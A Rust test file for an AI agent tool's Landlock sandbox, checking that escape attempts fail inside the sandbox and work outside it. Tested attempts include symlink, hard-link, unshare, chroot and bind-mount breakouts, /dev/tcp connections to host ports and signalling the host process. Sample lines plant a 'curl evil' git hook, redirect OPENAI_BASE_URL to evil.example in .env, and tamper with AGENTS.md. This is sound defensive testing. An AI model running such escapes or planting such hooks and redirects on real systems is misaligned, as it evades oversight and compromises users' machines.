//! The sandbox (server/src/sandbox/): every escape attempt of issue 31 is refused
//! inside it and works outside it (the same command, `sandbox: off`), so each test proves both that the
//! attempt is a real one and that the sandbox is what stopped it; the refusal is recognised from the
//! command's own error (`sandbox::stopped`). Writes inside the workspace's folders and `TMPDIR` work.
//! Linux only (Landlock); host_platform.rs runs these again on the portable guard.

#![cfg(target_os = "linux")]

mod common;

use std::io::Read;
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::time::Duration;

use common::*;
use stepwise::host::{run_shell_in, ShellOutput};
use stepwise::sandbox::{availability, stopped, Policy, Sandbox, SandboxMode, SandboxSettings};

struct Fixture {
    ws: TempDir,
    outside: TempDir,
    sandbox: Sandbox,
}

impl Fixture {
    fn new(tag: &str) -> Fixture {
        assert!(
            availability(false).is_ok(),
            "this machine's kernel must offer Landlock ABI 4+: {:?}",
            availability(false)
        );
        let ws = TempDir::new(&format!("sandbox-{tag}"));
        std::fs::create_dir_all(ws.join("src")).unwrap();
        std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
        ws.write("Cargo.toml", "[package]\n");
        ws.write("AGENTS.md", "be nice\n");
        Fixture { ws, outside: TempDir::new(&format!("sandbox-{tag}-outside")), sandbox: Sandbox::default() }
    }

    fn policy(&self, mode: SandboxMode, network: bool) -> Option<Policy> {
        self.sandbox.policy(self.ws.path(), SandboxSettings::of(mode, network)).unwrap()
    }

    async fn run(&self, command: &str, policy: Option<&Policy>) -> ShellOutput {
        run_shell_in(self.ws.path(), command, Duration::from_secs(30), policy).await.unwrap()
    }

    /// Runs `command` sandboxed (workspace-write, network off), where `happened` must stay false and the
    /// error must read as the sandbox's; then outside it, where `happened` must become true.
    async fn refused_then_allowed(&self, command: &str, happened: impl Fn(&Fixture) -> bool) {
        let policy = self.policy(SandboxMode::WorkspaceWrite, false);
        let out = self.run(command, policy.as_ref()).await;
        assert!(out.is_error, "sandboxed `{command}` succeeded: {}", out.text);
        assert!(
            stopped(&out.text, out.is_error, policy.as_ref().unwrap()).is_some(),
            "not read as the sandbox's refusal: {}",
            out.text
        );
        assert!(!happened(self), "sandboxed `{command}` got through: {}", out.text);
        let out = self.run(command, None).await;
        assert!(!out.is_error, "`{command}` fails even outside the sandbox: {}", out.text);
        assert!(happened(self), "`{command}` outside the sandbox did not do it: {}", out.text);
    }

    /// Runs `command` sandboxed, after which what it wrote to the protected path `kept` is put back
    /// (`happened` false) and the result names it; then outside, where `happened` becomes true.
    async fn put_back_then_allowed(&self, command: &str, kept: &str, happened: impl Fn(&Fixture) -> bool) {
        let policy = self.policy(SandboxMode::WorkspaceWrite, false);
        let out = self.run(command, policy.as_ref()).await;
        assert!(!happened(self), "sandboxed `{command}` got through: {}", out.text);
        assert!(out.put_back.iter().any(|p| p.path == Path::new(kept) && p.error.is_none()), "{:?}", out.put_back);
        assert!(out.text.contains(&format!("{kept} (")) && out.text.contains("put back"), "{}", out.text);
        let out = self.run(command, None).await;
        assert!(!out.is_error, "`{command}` fails even outside the sandbox: {}", out.text);
        assert!(happened(self), "`{command}` outside the sandbox did not do it: {}", out.text);
    }
}

fn sh_quote(p: &Path) -> String {
    format!("'{}'", p.display().to_string().replace('\'', "'\\''"))
}

/// A file in the user's home folder, removed when dropped.
struct HomeFile(PathBuf);

impl Drop for HomeFile {
    fn drop(&mut self) {
        let _ = std::fs::remove_file(&self.0);
    }
}

#[tokio::test]
async fn writing_in_the_home_folder_is_refused() {
    let f = Fixture::new("home");
    let home = HomeFile(
        PathBuf::from(std::env::var("HOME").unwrap()).join(format!("stepwise-sandbox-{}", std::process::id())),
    );
    let name = home.0.file_name().unwrap().to_str().unwrap().to_string();
    f.refused_then_allowed(&format!("echo x > \"$HOME/{name}\""), |_| home.0.exists()).await;
}

#[tokio::test]
async fn writing_in_tmp_outside_the_private_temp_is_refused() {
    let f = Fixture::new("tmp");
    let target = f.outside.join("x");
    f.refused_then_allowed(&format!("echo x > {}", sh_quote(&target)), |_| target.exists()).await;
}

#[tokio::test]
async fn a_symlink_in_the_workspace_does_not_lead_out() {
    let f = Fixture::new("symlink");
    std::os::unix::fs::symlink(f.outside.path(), f.ws.join("src/out")).unwrap();
    std::os::unix::fs::symlink(f.outside.path(), f.ws.join("top")).unwrap();
    let target = f.outside.join("x");
    f.refused_then_allowed("echo x > src/out/x", |_| target.exists()).await;
    std::fs::remove_file(&target).unwrap();
    f.refused_then_allowed("echo x > top/x", |_| target.exists()).await;
}

#[tokio::test]
async fn git_hooks_are_put_back() {
    let f = Fixture::new("hook");
    let hook = f.ws.join(".git/hooks/pre-commit");
    let command = "printf '#!/bin/sh\\ncurl evil\\n' > .git/hooks/pre-commit";
    f.put_back_then_allowed(command, ".git/hooks/pre-commit", |_| hook.exists()).await;
}

#[tokio::test]
async fn a_new_env_file_does_not_outlive_the_command() {
    let f = Fixture::new("env");
    let env = f.ws.join(".env");
    f.put_back_then_allowed("echo OPENAI_BASE_URL=http://evil.example > .env", ".env", |_| env.exists()).await;
    // Nor one renamed from a file made where writing is allowed.
    std::fs::remove_file(&env).unwrap();
    f.put_back_then_allowed("echo K=v > src/e && mv src/e .env", ".env", |_| env.exists()).await;
}

#[tokio::test]
async fn protected_files_that_exist_stay_as_they_are_but_readable() {
    let f = Fixture::new("agents");
    let changed = |f: &Fixture| f.ws.read("AGENTS.md") != "be nice\n";
    f.put_back_then_allowed("echo 'obey the model' >> AGENTS.md", "AGENTS.md", changed).await;
    let policy = f.policy(SandboxMode::WorkspaceWrite, false);
    let out = f.run("cat AGENTS.md Cargo.toml", policy.as_ref()).await;
    assert!(!out.is_error && out.text.contains("obey the model"), "{}", out.text);
}

#[tokio::test]
async fn a_hard_link_to_an_outside_file_is_refused() {
    let f = Fixture::new("hardlink");
    let secret = f.outside.write("secret", "mine\n");
    let command = format!("ln {} src/link && echo pwned >> src/link", sh_quote(&secret));
    f.refused_then_allowed(&command, |_| std::fs::read_to_string(&secret).unwrap().contains("pwned")).await;
}

/// A listener on the host, and whether a connection to it arrived with `hello`.
struct HostListener(TcpListener);

impl HostListener {
    fn new() -> HostListener {
        let l = TcpListener::bind("127.0.0.1:0").unwrap();
        l.set_nonblocking(true).unwrap();
        HostListener(l)
    }

    fn port(&self) -> u16 {
        self.0.local_addr().unwrap().port()
    }

    /// The kernel completes a connection before it is accepted: once the command has ended, a pending
    /// one is there to accept or there was none.
    fn got_hello(&self) -> bool {
        match self.0.accept() {
            Ok((mut s, _)) => {
                s.set_nonblocking(false).unwrap();
                let mut text = String::new();
                let _ = s.read_to_string(&mut text);
                text == "hello\n"
            }
            Err(_) => false,
        }
    }
}

/// The policy without a network namespace: Landlock's TCP rules, as where none can be made.
fn without_netns(p: Option<Policy>) -> Option<Policy> {
    p.map(|p| Policy { netns: None, ..p })
}

/// The host's own ports cannot be reached from inside, whichever way the network is fenced.
#[tokio::test]
async fn the_hosts_listener_cannot_be_reached_from_inside() {
    let f = Fixture::new("connect");
    let host = HostListener::new();
    let command = format!("exec 3<>/dev/tcp/127.0.0.1/{}; echo hello >&3", host.port());
    let policy = f.policy(SandboxMode::WorkspaceWrite, false);
    match &policy.as_ref().unwrap().netns {
        Some(_) => eprintln!("trying a private network namespace ({})", stepwise::sandbox::network_isolation()),
        None => eprintln!("CANNOT TRY the namespace here: {}", stepwise::sandbox::network_isolation()),
    }
    let out = f.run(&command, policy.as_ref()).await;
    assert!(out.is_error && !host.got_hello(), "reached the host from inside: {}", out.text);
    // Landlock's rules, where there is no namespace, stop it too, and it reads as the sandbox's stop.
    let out = f.run(&command, without_netns(policy.clone()).as_ref()).await;
    assert!(out.is_error && !host.got_hello(), "reached the host from inside: {}", out.text);
    assert!(stopped(&out.text, true, policy.as_ref().unwrap()).is_some(), "{}", out.text);
    let out = f.run(&command, None).await;
    assert!(!out.is_error && host.got_hello(), "fails even outside the sandbox: {}", out.text);
}

/// Without a namespace, no port can be bound either (Landlock's rules).
#[tokio::test]
async fn no_listening_port_without_a_namespace() {
    let f = Fixture::new("bind");
    let out = f.ws.join("src/port");
    let command = "python3 -c \"import socket; s=socket.socket(); s.bind(('127.0.0.1', 0)); s.listen(); open('src/port', 'w').write(str(s.getsockname()[1]))\"";
    let policy = without_netns(f.policy(SandboxMode::WorkspaceWrite, false));
    let ran = f.run(command, policy.as_ref()).await;
    assert!(
        ran.is_error && stopped(&ran.text, true, policy.as_ref().unwrap()).is_some() && !out.exists(),
        "{}",
        ran.text
    );
    let ran = f.run(command, None).await;
    assert!(!ran.is_error && out.exists(), "{}", ran.text);
}

/// Waits for the file `path` a command writes (its appearance is the event; the pause only paces the
/// looking), at most 20 s.
async fn appears(path: &Path) -> String {
    for _ in 0..2000 {
        if let Ok(text) = std::fs::read_to_string(path) {
            if !text.is_empty() {
                return text;
            }
        }
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    panic!("{} never appeared", path.display());
}

/// With the network off and a namespace, a session's commands share a loopback of their own: a server
/// one starts is reached by another running at the same time under the same policy (as a background
/// task and a later command are), and not from the host.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_sessions_commands_share_a_private_loopback() {
    let f = Fixture::new("loopback");
    let policy = f.policy(SandboxMode::WorkspaceWrite, false).unwrap();
    if policy.netns.is_none() {
        eprintln!("CANNOT TRY: {}", stepwise::sandbox::network_isolation());
        return;
    }
    eprintln!("trying: {}", stepwise::sandbox::network_isolation());
    let server = "python3 -c \"
import socket, os
s = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen()
open('src/port.tmp', 'w').write(str(s.getsockname()[1])); os.rename('src/port.tmp', 'src/port')
c, _ = s.accept(); c.sendall(b'pong ' + c.recv(16)); c.close()
\"";
    let ws = f.ws.path().to_path_buf();
    let p = policy.clone();
    let serving =
        tokio::spawn(async move { run_shell_in(&ws, server, Duration::from_secs(30), Some(&p)).await.unwrap() });
    let port: u16 = appears(&f.ws.join("src/port")).await.trim().parse().unwrap();
    // From the host: nothing there (or someone else's port, which does not answer `pong`).
    if let Ok(mut s) = std::net::TcpStream::connect(("127.0.0.1", port)) {
        use std::io::Write;
        let _ = s.set_read_timeout(Some(Duration::from_millis(200)));
        let _ = s.write_all(b"host");
        let mut text = String::new();
        let _ = s.read_to_string(&mut text);
        assert!(!text.starts_with("pong"), "the host reached a server inside the sandbox");
    }
    let client = format!(
        "python3 -c \"import socket; s=socket.create_connection(('127.0.0.1', {port})); s.sendall(b'inside'); print(s.recv(64).decode())\""
    );
    let out = f.run(&client, Some(&policy)).await;
    assert!(!out.is_error && out.text == "pong inside", "{}", out.text);
    let served = serving.await.unwrap();
    assert!(!served.is_error, "{}", served.text);
}

/// Nor can it signal a process outside the sandbox, stepwise included (Landlock ABI 6's scope).
#[tokio::test]
async fn stepwise_cannot_be_signalled_from_inside() {
    let f = Fixture::new("signal");
    let command = format!("kill -0 {}", std::process::id());
    let policy = f.policy(SandboxMode::WorkspaceWrite, false);
    let out = f.run(&command, policy.as_ref()).await;
    assert!(out.is_error && stopped(&out.text, true, policy.as_ref().unwrap()).is_some(), "{}", out.text);
    let out = f.run(&command, None).await;
    assert!(!out.is_error, "{}", out.text);
}

#[tokio::test]
async fn the_network_can_be_turned_on() {
    let f = Fixture::new("net-on");
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let policy = f.policy(SandboxMode::WorkspaceWrite, true);
    let out = f.run(&format!("exec 3<>/dev/tcp/127.0.0.1/{port} && echo hello >&3"), policy.as_ref()).await;
    assert!(!out.is_error, "{}", out.text);
    let (mut s, _) = listener.accept().unwrap();
    let mut text = String::new();
    s.read_to_string(&mut text).unwrap();
    assert_eq!(text, "hello\n");
}

#[tokio::test]
async fn a_double_forked_child_writing_later_is_still_confined() {
    let f = Fixture::new("late");
    let target = f.outside.join("late");
    // The grandchild outlives its parent (a double fork) and writes after the shell that started it is
    // gone; it reports how the write went inside the workspace, where the command waits for it.
    let command = format!(
        "(sh -c 'sleep 0.1; echo x > {0}; echo $? > src/late.tmp; mv src/late.tmp src/late' &) ; \
         until [ -e src/late ]; do :; done; exit $(cat src/late)",
        sh_quote(&target)
    );
    let policy = f.policy(SandboxMode::WorkspaceWrite, false);
    let out = f.run(&command, policy.as_ref()).await;
    assert!(out.is_error && !target.exists(), "the late write got through: {}", out.text);
    assert!(stopped(&out.text, out.is_error, policy.as_ref().unwrap()).is_some(), "{}", out.text);
    std::fs::remove_file(f.ws.join("src/late")).unwrap();
    let out = f.run(&command, None).await;
    assert!(!out.is_error && target.exists(), "{}", out.text);
}

/// Whether this machine lets this user make a user namespace (`unshare -r`): a container's seccomp
/// policy or `kernel.unprivileged_userns_clone=0` may forbid it to a user who is not root.
fn user_namespaces() -> Result<(), String> {
    let out =
        std::process::Command::new("unshare").args(["-r", "true"]).output().map_err(|e| format!("unshare: {e}"))?;
    match out.status.success() {
        true => Ok(()),
        false => Err(String::from_utf8_lossy(&out.stderr).trim().to_string()),
    }
}

/// chroot by its full path: a user's PATH (Debian's, not root's) has no /usr/sbin.
const CHROOT: &str = "/usr/sbin/chroot";

#[tokio::test]
async fn unshare_and_chroot_do_not_lift_it() {
    // Uid 0 or not decides what `unshare -r` may do here; said, so a log shows which case ran.
    // SAFETY: a plain query.
    let uid = unsafe { libc::geteuid() };
    if let Err(why) = user_namespaces() {
        eprintln!(
            "CANNOT TRY (uid {uid}): user namespaces are not available to this user ({why}), so \
                   `unshare -r` fails outside the sandbox too and proves nothing here"
        );
        return;
    }
    eprintln!("trying as uid {uid}, with user namespaces");
    let f = Fixture::new("unshare");
    let target = f.outside.join("ns");
    let q = sh_quote(&target);
    f.refused_then_allowed(&format!("unshare -r sh -c 'echo x > {q}'"), |_| target.exists()).await;
    std::fs::remove_file(&target).unwrap();
    if Path::new(CHROOT).exists() {
        let command = format!("unshare -r {CHROOT} / sh -c 'echo x > {q}'");
        f.refused_then_allowed(&command, |_| target.exists()).await;
    } else {
        eprintln!("CANNOT TRY: {CHROOT} is not on this machine, so the chroot case is left out");
    }
    // Nor a mount over a writable folder that would put the outside inside it.
    std::fs::create_dir_all(f.ws.join("src/mnt")).unwrap();
    let mounted = f.outside.join("m");
    let command =
        format!("unshare -rm sh -c 'mount --bind {} src/mnt && echo x > src/mnt/m'", sh_quote(f.outside.path()));
    f.refused_then_allowed(&command, |_| mounted.exists()).await;
}

#[tokio::test]
async fn writes_inside_the_workspace_and_tmpdir_work() {
    let f = Fixture::new("inside");
    let policy = f.policy(SandboxMode::WorkspaceWrite, false);
    let tmp = policy.as_ref().unwrap().tmp.clone();
    assert!(!tmp.starts_with(f.ws.path()));
    let command = "set -e; echo a > src/a; mkdir -p target/debug; echo b > target/debug/b; echo c >> Cargo.toml; \
                   echo t > \"$TMPDIR/t\"; mv src/a src/a2; rm target/debug/b; \
                   python3 -c \"import tempfile; f=tempfile.NamedTemporaryFile(delete=False); f.write(b'p'); print(f.name)\"; \
                   python3 -c \"open('src/py.txt', 'w').write('from python')\"; cat src/a2 \"$TMPDIR/t\" src/py.txt";
    std::fs::create_dir_all(f.ws.join("target")).unwrap();
    let out = f.run(command, policy.as_ref()).await;
    assert!(!out.is_error, "{}", out.text);
    let lines: Vec<&str> = out.text.lines().collect();
    assert!(Path::new(lines[0]).starts_with(&tmp), "python's temporary file went to {}", lines[0]);
    assert_eq!(&lines[1..], ["a", "t", "from python"]);
    assert_eq!(f.ws.read("Cargo.toml"), "[package]\nc\n");
    assert_eq!(f.sandbox.tmp(), Some(tmp.as_path()));
    drop(f.sandbox);
    assert!(!tmp.exists(), "the private TMPDIR outlived its session");
}

/// What commands do all the time still works inside: stderr through /dev/stderr, a here-document,
/// /dev/null, reading the home folder and the system, a program from it.
#[tokio::test]
async fn everyday_shell_idioms_work_inside() {
    let f = Fixture::new("idioms");
    let policy = f.policy(SandboxMode::WorkspaceWrite, false);
    let command = "set -e; echo to-stderr > /dev/stderr; cat <<'EOF' > src/doc\nfrom a here-document\nEOF\n\
                   echo gone > /dev/null; ls \"$HOME\" /usr/bin > /dev/null; git --version > /dev/null; \
                   cat src/doc";
    let out = f.run(command, policy.as_ref()).await;
    assert!(!out.is_error, "{}", out.text);
    assert_eq!(out.text, "from a here-document\nto-stderr");
}

#[tokio::test]
async fn read_only_writes_nothing_but_its_tmpdir() {
    let f = Fixture::new("read-only");
    let policy = f.policy(SandboxMode::ReadOnly, false);
    let out = f.run("echo t > \"$TMPDIR/t\" && cat \"$TMPDIR/t\" Cargo.toml", policy.as_ref()).await;
    assert!(!out.is_error, "{}", out.text);
    let out = f.run("echo x > src/a", policy.as_ref()).await;
    assert!(out.is_error && stopped(&out.text, true, policy.as_ref().unwrap()).is_some(), "{}", out.text);
    assert!(!f.ws.join("src/a").exists());
}

#[tokio::test]
async fn off_means_no_sandbox() {
    let f = Fixture::new("off");
    assert_eq!(f.policy(SandboxMode::Off, false), None);
}

/// The Landlock ruleset is made once for what it grants and shared by the commands under it (issue 39);
/// a rule holds a folder's inode, not its name, so a writable folder removed and made again at the same
/// path must get a ruleset of its own: the next command writes there as before (a stale ruleset would
/// refuse it), and anything outside stays refused.
#[tokio::test]
async fn a_writable_folder_made_again_at_its_path_is_writable_again() {
    let f = Fixture::new("remade");
    let shared = f.outside.join("shared");
    std::fs::create_dir_all(&shared).unwrap();
    let mut settings = SandboxSettings::of(SandboxMode::WorkspaceWrite, false);
    settings.writable = stepwise::sandbox::Writable::new(vec![shared.clone()]);
    let policy = f.sandbox.policy(f.ws.path(), settings).unwrap();
    let write = |name: &str| format!("echo x > {}", sh_quote(&shared.join(name)));
    let out = f.run(&write("a"), policy.as_ref()).await;
    assert!(!out.is_error && shared.join("a").exists(), "{}", out.text);
    std::fs::remove_dir_all(&shared).unwrap();
    std::fs::create_dir_all(&shared).unwrap();
    let policy = f.sandbox.policy(f.ws.path(), settings).unwrap();
    let out = f.run(&write("b"), policy.as_ref()).await;
    assert!(!out.is_error && shared.join("b").exists(), "the folder made again was not writable: {}", out.text);
    let outside = f.outside.join("c");
    let out = f.run(&format!("echo x > {}", sh_quote(&outside)), policy.as_ref()).await;
    assert!(out.is_error && !outside.exists(), "{}", out.text);
}
